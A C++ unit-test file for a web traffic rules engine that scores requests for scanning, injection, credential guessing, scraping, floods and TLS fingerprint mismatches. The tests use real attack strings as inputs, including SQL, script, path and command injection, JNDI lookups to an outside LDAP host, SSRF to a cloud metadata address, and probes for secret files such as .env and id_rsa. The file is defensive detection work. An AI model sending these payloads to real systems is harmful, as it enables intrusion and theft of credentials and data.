// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/rules/rulesengine.h"
#include "tests/core/rules/traffic/madeset.h"

#include <algorithm>

namespace assay::rules {
namespace {

using test::MadeSet;

class BuiltInTrafficRules : public ::testing::Test
{
protected:
    static void SetUpTestSuite()
    {
        const auto set = RuleSet::loadBuiltIn();
        ASSERT_TRUE(set);
        EngineOptions options;
        options.matcher.useHyperscan = false; // compiling takes longer than these few texts
        const auto engine = RulesEngine::create(*set, options);
        ASSERT_TRUE(engine);
        s_engine = *engine;
    }
    static void TearDownTestSuite() { s_engine.reset(); }

    double score(const MadeSet& made)
    {
        m_set.emplace(made.set());
        m_result = m_run.scan(*m_set);
        return m_result.score;
    }
    bool hits(std::string_view name) const
    {
        const RuleId id = s_engine->ruleSet().find(name);
        return std::any_of(
            m_result.hits.begin(), m_result.hits.end(), [&](const RuleHit& hit) { return hit.rule == id; });
    }
    bool hitsGroup(std::string_view group) const
    {
        return std::any_of(m_result.hits.begin(), m_result.hits.end(),
            [&](const RuleHit& hit) { return s_engine->ruleSet().rule(hit.rule).group == group; });
    }

    static std::shared_ptr<const RulesEngine> s_engine;
    RulesRun m_run{s_engine};
    std::optional<traffic::RequestSet> m_set;
    RulesResult m_result;
};
std::shared_ptr<const RulesEngine> BuiltInTrafficRules::s_engine;

TEST_F(BuiltInTrafficRules, AllCompileAndExplainThemselves)
{
    const RuleSet& set = s_engine->ruleSet();
    for (const RuleProblem& problem : set.problems()) {
        EXPECT_FALSE(problem.isError) << problem.file << ":" << problem.line << ":" << problem.column << " "
                                      << problem.rule << " " << problem.reason;
    }
    size_t count = 0;
    for (const Rule& rule : set.rules()) {
        if (rule.type != RuleType::Request && rule.type != RuleType::SetMeta)
            continue;
        ++count;
        EXPECT_TRUE(rule.enabled) << rule.name;
        if (!rule.name.starts_with("__")) {
            EXPECT_FALSE(rule.description.empty()) << rule.name;
            EXPECT_FALSE(rule.group.empty()) << rule.name;
        }
    }
    EXPECT_GT(count, 70U);
}

TEST_F(BuiltInTrafficRules, APersonScoresNothing)
{
    MadeSet made;
    made.head().features = {{"html_total", 3}, {"css_total", 2}, {"js_total", 4}, {"image_total", 9}};
    for (const char* line : {"GET /", "GET /static/main.css?v=7", "GET /static/app.js?v=7", "GET /media/1/a.webp",
             "GET /media/2/b.webp", "GET /news/2026/select-committee-and-union-from-1998", "POST /login",
             "GET /search?q=drop+table+lamp+and+chairs+from+the+union", "GET /media/3/c.webp", "GET /favicon.ico"})
        made.add(line);
    EXPECT_EQ(score(made), 0);
}

TEST_F(BuiltInTrafficRules, ADeclaredBotIsAFactAndNoFault)
{
    MadeSet made;
    for (const char* line : {"GET /robots.txt", "GET /a", "GET /b"}) {
        made.add(line, 200, [](traffic::Request& request) {
            request.userAgent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
        });
    }
    EXPECT_EQ(score(made), 0);
    EXPECT_TRUE(hits("BOT_DECLARED"));
    EXPECT_TRUE(hits("BOT_ROBOTS_TXT"));
}

TEST_F(BuiltInTrafficRules, ScannersAreRejected)
{
    MadeSet made;
    for (const char* line : {"GET /.env", "GET /.git/config", "GET /wp-login.php", "GET /phpmyadmin/",
             "GET /backup.sql", "GET /admin.php", "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
             "GET /old.zip", "GET /actuator/env", "GET /id_rsa"})
        made.add(line, 404);
    EXPECT_GE(score(made), 15);
    EXPECT_TRUE(hitsGroup("scanners"));
    EXPECT_FALSE(hitsGroup("injection"));
}

TEST_F(BuiltInTrafficRules, EachKindOfInjectionIsFound)
{
    const std::vector<std::pair<std::string, std::string>> attacks = {
        {"GET /a?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL--", "INJECT_SQL"},
        {"GET /a?id=1+and+sleep(5)", "INJECT_SQL"},
        {"GET /a?q=%253Cscript%253Ealert(1)%253C/script%253E", "INJECT_SCRIPT"},
        {"GET /a?q=%22%20onmouseover=alert(1)%20x=%22", "INJECT_SCRIPT"},
        {"GET /a?file=..%2f..%2f..%2fetc%2fpasswd", "INJECT_PATH"},
        {"GET /static/..%252f..%252fetc/passwd", "INJECT_PATH"},
        {"GET /a?host=127.0.0.1;cat%20/etc/hostname", "INJECT_COMMAND"},
        {"GET /a?name=%7B%7B7*7%7D%7D", "INJECT_TEMPLATE"},
        {"GET /?x=$%7Bjndi:ldap://198.51.100.9/a%7D", "INJECT_LOOKUP"},
        {"GET /?x=$%7B$%7Blower:j%7Dndi:ldap://198.51.100.9/a%7D", "INJECT_LOOKUP"},
        {"GET /fetch?url=http://169.254.169.254/latest/meta-data/", "INJECT_SERVER"},
        {"GET /a?x=1%0d%0aSet-Cookie:%20a=b", "INJECT_HEADER"},
        {"GET /a?user[$ne]=x", "INJECT_OBJECT"},
    };
    for (const auto& [line, rule] : attacks) {
        MadeSet made;
        made.add(line);
        EXPECT_GE(score(made), 3) << line;
        EXPECT_TRUE(hits(rule)) << line;
    }
    MadeSet header;
    header.add("GET /", 200, [](traffic::Request& request) { request.userAgent = "${jndi:ldap://198.51.100.9/a}"; });
    EXPECT_GE(score(header), 5);
    EXPECT_TRUE(hits("INJECT_LOOKUP"));
}

TEST_F(BuiltInTrafficRules, LoginsThatAreRefusedAgainAndAgain)
{
    MadeSet made;
    for (int i = 0; i < 8; ++i)
        made.add("POST /login", 401);
    EXPECT_GE(score(made), 5);
    EXPECT_TRUE(hits("LOGIN_DENIED_MANY"));
    MadeSet person; // once wrong, then right
    person.add("GET /login").add("POST /login", 401).add("POST /login", 302).add("GET /account");
    EXPECT_EQ(score(person), 0);
}

TEST_F(BuiltInTrafficRules, ScrapersAndFloods)
{
    MadeSet scraper;
    scraper.head().features = {{"html_total", 60}};
    for (int i = 0; i < 60; ++i) {
        scraper.add("GET /item/" + std::to_string(i) + ".html", 200,
            [](traffic::Request& request) { request.userAgent = "python-requests/2.31.0"; });
    }
    EXPECT_GE(score(scraper), 8);
    EXPECT_TRUE(hits("SCRAPE_COUNTS_UP"));
    EXPECT_TRUE(hits("SCRAPE_LIBRARY"));
    MadeSet flood;
    flood.gap(200'000'000);
    for (int i = 0; i < 200; ++i)
        flood.add("GET /?x=" + std::to_string(i * 7919 % 100'003));
    EXPECT_GE(score(flood), 5);
    EXPECT_TRUE(hits("FLOOD_CACHE_BUST"));
}

TEST_F(BuiltInTrafficRules, HellosThatDoNotFitTheBrowser)
{
    MadeSet made;
    made.add("GET /", 200, [](traffic::Request& request) { request.ja4 = "t13d3112h2_e8f1e7e78f70_6bebaf5329ac"; });
    EXPECT_GE(score(made), 3);
    EXPECT_TRUE(hits("TLS_NOT_THAT_BROWSER"));
    MadeSet fits;
    fits.add("GET /", 200, [](traffic::Request& request) { request.ja4 = "t13d1715h2_5b57614c22b0_3d5424432f57"; });
    EXPECT_EQ(score(fits), 0);
}

TEST_F(BuiltInTrafficRules, WhatTheSiteReportsCounts)
{
    MadeSet banned;
    banned.head().context = {{"banned", 1}};
    banned.add("GET /");
    EXPECT_GE(score(banned), 5);
    MadeSet passed;
    passed.head().context = {{"challenge_failed", 2}, {"challenge_passed", 1}};
    passed.add("GET /");
    EXPECT_LT(score(passed), 0);
}

} // namespace
} // namespace assay::rules
